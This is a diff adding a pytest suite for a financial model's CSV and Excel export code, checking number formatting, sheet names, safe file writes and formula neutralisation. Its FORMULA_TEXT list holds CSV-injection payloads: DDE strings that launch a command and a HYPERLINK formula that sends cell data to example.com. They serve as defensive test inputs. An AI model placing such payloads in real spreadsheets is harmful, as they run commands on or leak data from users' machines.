@@ -1,0 +1,262 @@
+"""Exports: clean CSV, a workbook with a sheet per table, nothing a spreadsheet would run."""
+
+from __future__ import annotations
+
+import io
+from datetime import date, datetime
+from types import SimpleNamespace
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from model.exports import (
+    ExportError,
+    csv_bytes,
+    safe_cell,
+    scenario_frame,
+    sheet_name,
+    text_cell,
+    workbook_bytes,
+    write_tables,
+)
+from model.scenario import SPECS, Scenario
+
+# Payloads from the OWASP "CSV Injection" page, plus the short forms a spreadsheet also runs.
+FORMULA_TEXT = [
+    '=HYPERLINK("http://example.com/?x="&A1,"Error: click")',
+    "=1+1",
+    "+1",
+    "-2+3",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def figures() -> pd.DataFrame:
+    return pd.DataFrame(
+        {
+            "year": [2024, 2025, 2026],
+            "amount_usd_bn": [0.1 + 0.2, -1.5, 1234567.891],
+            "rate": [0.2, 0.125, None],
+            "counterparty": ["Azure", "Oracle", "CoreWeave, Inc."],
+            "counted": [True, False, True],
+            "as_of": [date(2023, 1, 23), date(2025, 9, 30), date(2026, 3, 31)],
+        }
+    )
+
+
+def sources_frame() -> pd.DataFrame:
+    return pd.DataFrame(
+        {
+            "topic": ["Investment", "Equity"],
+            "record": ["t2019", "q1fy26"],
+            "value": ["1.0", "-3.1"],
+            "source": ["@SUM(A1)", "Microsoft 10-Q"],
+            "derived": [False, True],
+        }
+    )
+
+
+@pytest.mark.parametrize("text", FORMULA_TEXT)
+def test_safe_cell_quotes_formula_text(text):
+    assert safe_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", [-1.5, 0, -7, 3.25, True, None, "Oracle", "-3.1", "-0.41", "a=b", "x-1"])
+def test_safe_cell_leaves_numbers_and_plain_text(value):
+    assert safe_cell(value) == value
+
+
+def test_csv_round_trips_through_pandas_with_equal_figures():
+    original = figures()
+    back = pd.read_csv(io.BytesIO(csv_bytes(original)), parse_dates=["as_of"])
+    assert list(back.columns) == list(original.columns)
+    expected = original.assign(as_of=pd.to_datetime(original["as_of"]))
+    pd.testing.assert_frame_equal(back, expected, check_dtype=False, check_exact=False, rtol=1e-11)
+
+
+def test_csv_layout():
+    text = csv_bytes(figures()).decode("utf-8")
+    lines = text.split("\n")
+    assert lines[0] == "year,amount_usd_bn,rate,counterparty,counted,as_of"
+    # 0.1 + 0.2 is 0.30000000000000004 in float64: the noise must not reach the file; no
+    # thousands separators; booleans as TRUE/FALSE; ISO dates; missing values empty.
+    assert lines[1] == "2024,0.3,0.2,Azure,TRUE,2023-01-23"
+    assert lines[2] == "2025,-1.5,0.125,Oracle,FALSE,2025-09-30"
+    assert lines[3] == '2026,1234567.891,,"CoreWeave, Inc.",TRUE,2026-03-31'
+    assert text.endswith("\n") and "\r" not in text and len(lines) == 5
+    assert not text.startswith("\ufeff")
+
+
+def test_csv_drops_a_plain_index_and_keeps_a_named_one():
+    plain = pd.DataFrame({"amount_usd_bn": [1.0]}, index=[7])
+    assert csv_bytes(plain).decode() == "amount_usd_bn\n1\n"
+    named = pd.DataFrame({"amount_usd_bn": [1.0]}, index=pd.Index([2030], name="year"))
+    assert csv_bytes(named).decode() == "year,amount_usd_bn\n2030,1\n"
+
+
+@pytest.mark.parametrize(
+    ("value", "text"),
+    [
+        (datetime(2026, 9, 28), "2026-09-28"),
+        (pd.Timestamp("2026-09-28 14:30"), "2026-09-28T14:30:00"),
+        (float("nan"), ""),
+        (pd.NA, ""),
+        (-0.0, "0"),
+        (2.0, "2"),
+        (1e-7, "1e-07"),
+        (7_433_000_000.0, "7433000000"),
+        (float("inf"), "inf"),
+    ],
+)
+def test_text_cell(value, text):
+    assert text_cell(value) == text
+
+
+def test_formula_text_is_neutralised_in_csv_while_numbers_stay_numbers():
+    df = pd.DataFrame({"note": FORMULA_TEXT, "amount_usd_bn": [-1.5] * len(FORMULA_TEXT)})
+    back = pd.read_csv(io.BytesIO(csv_bytes(df)), keep_default_na=False)
+    assert back["note"].tolist() == ["'" + text for text in FORMULA_TEXT]
+    assert back["amount_usd_bn"].tolist() == [-1.5] * len(FORMULA_TEXT)
+    assert back["amount_usd_bn"].dtype == "float64"
+
+
+def test_formula_looking_header_is_neutralised():
+    assert csv_bytes(pd.DataFrame({"=cmd": [1]})).decode() == "'=cmd\n1\n"
+
+
+def read_workbook(data: bytes) -> openpyxl.Workbook:
+    return openpyxl.load_workbook(io.BytesIO(data))
+
+
+def test_workbook_has_a_sheet_per_table_then_scenario_and_sources():
+    tables = {"msft_cash_flows": figures(), "summary": figures().head(1)}
+    book = read_workbook(workbook_bytes(tables, Scenario(), sources_frame()))
+    assert book.sheetnames == ["msft_cash_flows", "summary", "scenario", "sources"]
+    sheet = book["msft_cash_flows"]
+    assert [cell.value for cell in sheet[1]] == list(figures().columns)
+    assert all(cell.font.b for cell in sheet[1])
+    assert sheet.freeze_panes == "A2"
+    assert sheet.max_row == 4
+    widths = [sheet.column_dimensions[letter].width for letter in "ABCDEF"]
+    assert all(8 <= width <= 60 for width in widths)
+    assert sheet.column_dimensions["D"].width >= len("CoreWeave, Inc.")
+
+
+def test_workbook_cells_keep_their_types():
+    book = read_workbook(workbook_bytes({"figures": figures()}, Scenario(), sources_frame()))
+    year, amount, rate, counterparty, counted, as_of = (cell for cell in book["figures"][2])
+    assert (year.value, year.data_type) == (2024, "n")
+    assert amount.value == 0.3 and amount.data_type == "n"
+    assert counted.value is True
+    assert as_of.value == datetime(2023, 1, 23) and as_of.number_format == "YYYY-MM-DD"
+    assert book["figures"]["C4"].value is None
+
+
+def test_formula_text_is_neutralised_in_the_workbook_while_numbers_stay_numbers():
+    df = pd.DataFrame({"note": FORMULA_TEXT, "amount_usd_bn": [-1.5] * len(FORMULA_TEXT)})
+    book = read_workbook(workbook_bytes({"notes": df}, Scenario(), sources_frame()))
+    sheet = book["notes"]
+    notes = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert [cell.value for cell in notes] == ["'" + text for text in FORMULA_TEXT]
+    assert all(cell.data_type == "s" for cell in notes)  # "f" would be a formula
+    amounts = [row[1] for row in sheet.iter_rows(min_row=2)]
+    assert all(cell.value == -1.5 and cell.data_type == "n" for cell in amounts)
+    assert book["sources"]["D2"].value == "'@SUM(A1)"
+    for worksheet in book.worksheets:
+        for row in worksheet.iter_rows():
+            assert not any(cell.data_type == "f" for cell in row)
+
+
+def test_scenario_sheet_lists_every_assumption_with_its_range():
+    scenario = Scenario(discount_rate=0.12)
+    book = read_workbook(workbook_bytes({}, scenario, sources_frame()))
+    rows = list(book["scenario"].iter_rows(values_only=True))
+    assert rows[0][:8] == ("name", "label", "value", "unit", "default", "low", "high", "group")
+    assert rows[0][-1] == "description"
+    by_name = {row[0]: row for row in rows[1:]}
+    assert list(by_name) == list(SPECS)
+    assert by_name["discount_rate"][2:7] == (0.12, "per year", 0.09, 0, 0.25)
+    assert by_name["shortfall_rule"][2] == "pro_rata"
+
+
+def test_scenario_frame_values():
+    frame = scenario_frame(Scenario(horizon_year=2040))
+    row = frame.set_index("name").loc["horizon_year"]
+    assert row["value"] == 2040 and row["default"] == 2035 and row["unit"] == "year"
+
+
+@pytest.mark.parametrize(
+    ("name", "taken", "expected"),
+    [
+        ("investment_funding", [], "investment_funding"),
+        ("a/b\\c[d]:e*f?g", [], "a_b_c_d__e_f_g"),
+        ("x" * 40, [], "x" * 31),
+        ("summary", ["Summary"], "summary_2"),
+        ("x" * 40, ["x" * 31], "x" * 29 + "_2"),
+        ("History", [], "History_"),
+        ("'quoted'", [], "quoted"),
+    ],
+)
+def test_sheet_name(name, taken, expected):
+    assert sheet_name(name, taken) == expected
+
+
+def fake_result() -> SimpleNamespace:
+    return SimpleNamespace(tables={"summary": figures(), "msft_by_year": figures()})
+
+
+def test_write_tables_csv_writes_a_folder(tmp_path):
+    out = tmp_path / "out"
+    written = write_tables(fake_result(), Scenario(), sources_frame(), out, "csv")
+    names = sorted(path.name for path in out.iterdir())
+    assert names == ["msft_by_year.csv", "scenario.csv", "sources.csv", "summary.csv"]
+    assert sorted(path.name for path in written) == names
+    assert (out / "summary.csv").read_bytes() == csv_bytes(figures())
+    assert [p.name for p in tmp_path.iterdir()] == ["out"]  # no staging folder left behind
+
+
+def test_write_tables_csv_into_an_existing_folder_keeps_other_files(tmp_path):
+    (tmp_path / "notes.txt").write_text("mine")
+    (tmp_path / "summary.csv").write_text("old")
+    write_tables(fake_result(), Scenario(), sources_frame(), tmp_path, "csv")
+    assert (tmp_path / "notes.txt").read_text() == "mine"
+    assert (tmp_path / "summary.csv").read_bytes() == csv_bytes(figures())
+    assert not list(tmp_path.glob(".*.tmp"))
+
+
+def test_write_tables_xlsx(tmp_path):
+    out = tmp_path / "sub" / "model.xlsx"
+    assert write_tables(fake_result(), Scenario(), sources_frame(), out, "xlsx") == [out]
+    assert read_workbook(out.read_bytes()).sheetnames == ["summary", "msft_by_year", "scenario", "sources"]
+    assert [p.name for p in out.parent.iterdir()] == ["model.xlsx"]
+
+
+def test_write_tables_writes_nothing_when_a_table_cannot_be_rendered(tmp_path):
+    class Unprintable:
+        def __str__(self):
+            raise RuntimeError("cannot render")
+
+    result = SimpleNamespace(tables={"summary": figures(), "broken": pd.DataFrame({"x": [Unprintable()]})})
+    for fmt, out in (("csv", tmp_path / "out"), ("xlsx", tmp_path / "model.xlsx")):
+        with pytest.raises(RuntimeError):
+            write_tables(result, Scenario(), sources_frame(), out, fmt)
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize(("fmt", "make"), [("csv", "file"), ("xlsx", "folder")])
+def test_write_tables_refuses_the_wrong_kind_of_path(tmp_path, fmt, make):
+    out = tmp_path / "target"
+    out.write_text("keep") if make == "file" else out.mkdir()
+    with pytest.raises(ExportError):
+        write_tables(fake_result(), Scenario(), sources_frame(), out, fmt)
+    assert [p.name for p in tmp_path.iterdir()] == ["target"]
+
+
+def test_line_breaks_inside_text_stay_inside_their_record():
+    df = pd.DataFrame({"note": ["a\rb", "c\nd", 'say "x", then y', "plain"], "x": [1, 2, 3, 4]})
+    back = pd.read_csv(io.BytesIO(csv_bytes(df)))
+    pd.testing.assert_frame_equal(back, df, check_dtype=False)
